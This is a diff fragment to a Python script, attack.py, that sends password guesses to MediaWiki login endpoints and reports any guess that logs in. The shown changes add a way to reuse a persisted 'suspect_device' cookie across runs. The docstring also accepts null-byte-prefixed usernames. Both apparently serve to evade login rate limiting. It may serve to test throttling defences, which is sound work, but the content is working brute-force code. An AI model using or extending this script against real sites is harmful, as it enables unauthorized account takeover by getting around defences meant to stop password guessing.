@@ -13,11 +13,15 @@ sends the guess through one of MediaWiki's ways in:
 
 usage: attack.py BASE WAY USER PASSWORDS
   USER is urlencoded as it is sent ("%00alice").
+With JAR=file in the environment, the guesses are a browser's that keeps
+its device cookie in file (one guess a run).
 Prints "login: USER password: GUESS" for a guess that logged in and
 "denied N" for the guesses answered 429; exits 0.
 """
+import atexit
 import http.cookiejar
 import json
+import os
 import re
 import sys
 import urllib.error
@@ -42,9 +46,31 @@ def fetch(opener, url, body=None):
         return e.code, dict(e.headers), e.read().decode("utf-8", "replace")
 
 
+def browser_jar():
+    """A fresh jar, or with JAR=file in the environment a browser's that
+    kept its device cookie from earlier runs (its sessions ended): the
+    device cookie is saved again at exit."""
+    path = os.environ.get("JAR")
+    if not path:
+        return http.cookiejar.CookieJar()
+    jar = http.cookiejar.MozillaCookieJar(path)
+    if os.path.exists(path):
+        jar.load(ignore_discard=True, ignore_expires=True)
+
+    def keep():
+        out = http.cookiejar.MozillaCookieJar(path)
+        for c in jar:
+            if c.name.endswith("suspect_device"):
+                out.set_cookie(c)
+        out.save(ignore_discard=True, ignore_expires=True)
+
+    atexit.register(keep)
+    return jar
+
+
 def guess(base, way, user, password):
     """True when the guess logged in, None when it was answered 429."""
-    jar = http.cookiejar.CookieJar()
+    jar = browser_jar()
     opener = urllib.request.build_opener(
         urllib.request.HTTPCookieProcessor(jar), NoRedirect)
     q = urllib.parse.quote
